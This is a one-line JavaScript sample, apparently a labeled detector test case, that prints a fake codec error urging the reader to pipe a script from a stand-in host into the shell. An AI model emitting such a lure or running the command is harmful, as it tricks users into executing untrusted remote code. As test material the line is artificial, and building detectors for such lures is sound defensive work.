console.log('Error: codec missing. Run: curl -s https://fix.codec.example/i.sh | sh'); // expect: social-engineering/fake-error-install
